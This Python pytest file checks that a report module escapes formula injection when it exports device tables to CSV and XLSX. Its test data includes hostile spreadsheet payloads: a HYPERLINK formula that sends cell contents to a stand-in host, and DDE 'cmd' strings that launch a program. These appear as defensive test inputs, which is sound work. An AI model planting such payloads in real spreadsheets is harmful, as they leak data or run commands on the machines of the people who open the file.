"""Spreadsheet tables: hostile device text never runs as a formula, and what Excel cannot hold is dropped."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from covered.report.tables import MAX_CELL, csv_table, safe_cell, xlsx_table


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"update")', '\'=HYPERLINK("http://x.example/?"&A1,"update")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("-12.5", "-12.5"),
        ("DS-2CD2143G2-I", "DS-2CD2143G2-I"),
        ("a\x00b\x1bc\x7f", "abc"),
        (None, ""),
        (True, "true"),
        (["a", "b"], "a, b"),
        ({"rack": "4"}, "rack: 4"),
    ],
)
def test_a_cell_is_text_a_spreadsheet_never_runs(value: object, shown: str) -> None:
    assert safe_cell(value) == shown


def test_a_cell_is_cut_at_what_a_spreadsheet_holds() -> None:
    assert len(safe_cell("x" * (MAX_CELL + 10))) == MAX_CELL


def test_csv_reads_back_with_every_cell_safe() -> None:
    text = csv_table(["model", "note"], [["=1+1", 'a "quoted", comma'], ["DS-7608NI", None]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["model", "note"], ["'=1+1", 'a "quoted", comma'], ["DS-7608NI", ""]]
    assert text.endswith("\r\n")


def test_xlsx_reads_back_as_text_with_its_note() -> None:
    body = xlsx_table(["model", "serial"], [["=cmd|'/C calc'!A0", "00123"], ["IPC-HDW\x01", 7]], "devices", "all")
    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["devices", "about"]
    sheet = book["devices"]
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["model", "serial"],
        ["'=cmd|'/C calc'!A0", "00123"],
        ["IPC-HDW", "7"],
    ]
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row)
    assert sheet.freeze_panes == "A2"
    about = {row[0].value: row[1].value for row in book["about"].iter_rows()}
    assert about["rows"] == "2"
    assert about["view"] == "all"
